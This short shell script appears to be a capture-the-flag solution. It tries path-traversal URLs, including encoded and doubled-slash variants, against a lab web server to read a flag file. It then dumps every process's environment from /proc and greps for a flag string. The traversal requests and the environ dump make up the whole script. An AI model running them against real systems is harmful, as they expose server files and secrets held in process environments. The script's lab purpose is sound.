#-- the file behind the page, by its path
for path in /srv/flag.txt /../../srv/flag.txt /..%2f..%2fsrv%2fflag.txt //srv/flag.txt /flag.txt; do
    curl -s --path-as-is "http://shop:8080$path"
done
#-- the workstation's own files
cat /srv/flag.txt /proc/*/environ 2> /dev/null | tr '\0' '\n' | grep -ao 'flag{[0-9a-f]*}' || echo none
